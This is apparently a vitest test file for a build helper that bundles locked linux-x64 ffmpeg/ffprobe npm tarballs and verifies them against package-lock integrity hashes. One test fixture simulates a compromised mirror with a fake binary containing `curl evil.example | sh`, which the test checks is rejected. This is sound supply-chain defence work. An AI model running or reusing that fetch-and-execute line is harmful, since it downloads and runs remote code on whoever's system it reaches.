// Bundling ffmpeg/ffprobe on a host where `npm ci` skipped the linux-x64 packages (macOS, arm64
// Linux, Windows): the resolver is pointed at a node_modules without them and a temp cache.
import { execFile } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, statSync } from 'node:fs';
import { mkdir, mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { copyMediaBinaries, MEDIA_BINARIES, type LockedPackage, type MediaBinaryOptions } from '../../cdk/media-binaries';
import { projectPath } from '../../functions/catalog';

const VERSION = '9.9.9';
const sri = (bytes: Buffer) => `sha512-${createHash('sha512').update(bytes).digest('base64')}`;

let fixtures: string;
/** Published tarballs by package name, and one with the same name and version but another ffmpeg inside. */
let published: Map<string, Buffer>;
let tamperedFfmpeg: Buffer;

beforeAll(async () => {
  fixtures = await mkdtemp(join(tmpdir(), 'media-binaries-fixtures-'));
  const tarballs = await Promise.all(MEDIA_BINARIES.map(({ packageName, file }) => packTarball(packageName, file, `#!/bin/sh\necho ${file} ${VERSION}\n`)));
  published = new Map(MEDIA_BINARIES.map(({ packageName }, i) => [packageName, tarballs[i]]));
  // What a compromised mirror or proxy would serve.
  tamperedFfmpeg = await packTarball(MEDIA_BINARIES[0].packageName, 'ffmpeg', '#!/bin/sh\ncurl evil.example | sh\n');
}, 60_000);
afterAll(() => rm(fixtures, { recursive: true, force: true }));

let dir: string;
beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), 'media-binaries-test-'));
});
afterEach(() => rm(dir, { recursive: true, force: true }));

/** A real npm tarball (npm pack of a folder) of a package that ships one fake binary. */
async function packTarball(packageName: string, file: string, content: string): Promise<Buffer> {
  const source = await mkdtemp(join(fixtures, 'pkg-'));
  await writeFile(join(source, 'package.json'), JSON.stringify({ name: packageName, version: VERSION, files: [file] }));
  await writeFile(join(source, file), content, { mode: 0o755 });
  const { stdout } = await promisify(execFile)('npm', ['pack', source, '--pack-destination', source, '--json', '--ignore-scripts']);
  return readFile(join(source, (JSON.parse(stdout) as { filename: string }[])[0].filename));
}

/** A project whose lock records both packages, a node_modules without them, an empty cache, a fake registry. */
async function hostWithoutLinuxPackages() {
  const tarballs = new Map(published);
  const lockFile = join(dir, 'package-lock.json');
  const packages = Object.fromEntries([...tarballs].map(([name, tgz]) => [`node_modules/${name}`, { version: VERSION, integrity: sri(tgz), optional: true, os: ['linux'], cpu: ['x64'] }]));
  await writeFile(lockFile, JSON.stringify({ lockfileVersion: 3, packages }));
  const nodeModules = join(dir, 'node_modules');
  await mkdir(nodeModules);
  const fetched: LockedPackage[] = [];
  const options: MediaBinaryOptions = {
    nodeModules,
    lockFile,
    cacheDir: join(dir, 'cache'),
    fetchTarball: async (pkg) => {
      fetched.push(pkg);
      return tarballs.get(pkg.name)!;
    },
  };
  return { options, fetched, tarballs };
}

const isExecutable = (path: string) => process.platform === 'win32' || (statSync(path).mode & 0o111) !== 0;

describe('media binaries for the Lambda bundle', () => {
  it('fetches exactly the locked version when node_modules lacks it, and bundles executable binaries', async () => {
    const { options, fetched } = await hostWithoutLinuxPackages();
    const out = join(dir, 'bundle', 'bin');
    expect(await copyMediaBinaries(out, options)).toEqual({ ffmpeg: 'registry', ffprobe: 'registry' });
    expect(fetched.map((p) => `${p.name}@${p.version}`)).toEqual(MEDIA_BINARIES.map((b) => `${b.packageName}@${VERSION}`));
    for (const { file } of MEDIA_BINARIES) {
      expect(await readFile(join(out, file), 'utf8')).toBe(`#!/bin/sh\necho ${file} ${VERSION}\n`);
      expect(isExecutable(join(out, file)), file).toBe(true);
    }
  });

  it('uses the cache on the next synth, without fetching again', async () => {
    const { options, fetched } = await hostWithoutLinuxPackages();
    await copyMediaBinaries(join(dir, 'first'), options);
    fetched.length = 0;
    expect(await copyMediaBinaries(join(dir, 'second'), options)).toEqual({ ffmpeg: 'cache', ffprobe: 'cache' });
    expect(fetched).toEqual([]);
  });

  it('copies from node_modules when it holds the locked version (linux-x64 hosts), and fetches nothing', async () => {
    const { options, fetched } = await hostWithoutLinuxPackages();
    for (const { packageName, file } of MEDIA_BINARIES) {
      await mkdir(join(options.nodeModules, packageName), { recursive: true });
      await writeFile(join(options.nodeModules, packageName, 'package.json'), JSON.stringify({ name: packageName, version: VERSION }));
      await writeFile(join(options.nodeModules, packageName, file), `installed ${file}`);
    }
    expect(await copyMediaBinaries(join(dir, 'out'), options)).toEqual({ ffmpeg: 'node_modules', ffprobe: 'node_modules' });
    expect(await readFile(join(dir, 'out', 'ffmpeg'), 'utf8')).toBe('installed ffmpeg');
    expect(fetched).toEqual([]);
  });

  it('does not trust an installed copy of another version', async () => {
    const { options } = await hostWithoutLinuxPackages();
    const [{ packageName, file }] = MEDIA_BINARIES;
    await mkdir(join(options.nodeModules, packageName), { recursive: true });
    await writeFile(join(options.nodeModules, packageName, 'package.json'), JSON.stringify({ name: packageName, version: '1.0.0' }));
    await writeFile(join(options.nodeModules, packageName, file), 'stale');
    expect((await copyMediaBinaries(join(dir, 'out'), options)).ffmpeg).toBe('registry');
  });

  it('refuses a tarball that does not match the lock’s integrity, and caches and bundles nothing', async () => {
    const { options, tarballs } = await hostWithoutLinuxPackages();
    tarballs.set(MEDIA_BINARIES[0].packageName, tamperedFfmpeg);
    const out = join(dir, 'out');
    await expect(copyMediaBinaries(out, options)).rejects.toMatchObject({
      name: 'MediaBinaryError',
      message: expect.stringMatching(/@ffmpeg-installer\/linux-x64@9\.9\.9: tarball does not match the integrity in package-lock\.json/),
    });
    expect(existsSync(join(out, 'ffmpeg'))).toBe(false);
    expect(existsSync(options.cacheDir) ? await readdir(options.cacheDir, { recursive: true }) : []).not.toContainEqual(expect.stringMatching(/ffmpeg$/));
  });

  it('refuses a lock without an integrity hash for the package', async () => {
    const { options } = await hostWithoutLinuxPackages();
    await writeFile(options.lockFile, JSON.stringify({ packages: { [`node_modules/${MEDIA_BINARIES[0].packageName}`]: { version: VERSION } } }));
    await expect(copyMediaBinaries(join(dir, 'out'), options)).rejects.toThrow(/package-lock\.json has no version and integrity for @ffmpeg-installer\/linux-x64/);
  });

  it('gets the real locked linux-x64 builds through npm (registry or npm cache), identical to what npm ci installs', async () => {
    const emptyNodeModules = join(dir, 'node_modules');
    await mkdir(emptyNodeModules);
    const out = join(dir, 'out');
    const options = { nodeModules: emptyNodeModules, lockFile: projectPath('package-lock.json'), cacheDir: join(dir, 'cache') };
    expect(await copyMediaBinaries(out, options)).toEqual({ ffmpeg: 'registry', ffprobe: 'registry' });
    for (const { packageName, file } of MEDIA_BINARIES) {
      const bundled = await readFile(join(out, file));
      expect(bundled.subarray(0, 4).toString('latin1'), file).toBe('\x7fELF');
      expect(bundled[18] | (bundled[19] << 8), `${file} e_machine`).toBe(62); // EM_X86_64
      const installed = projectPath(`node_modules/${packageName}/${file}`);
      if (existsSync(installed)) expect(bundled.equals(await readFile(installed)), file).toBe(true);
    }
  }, 180_000);
});
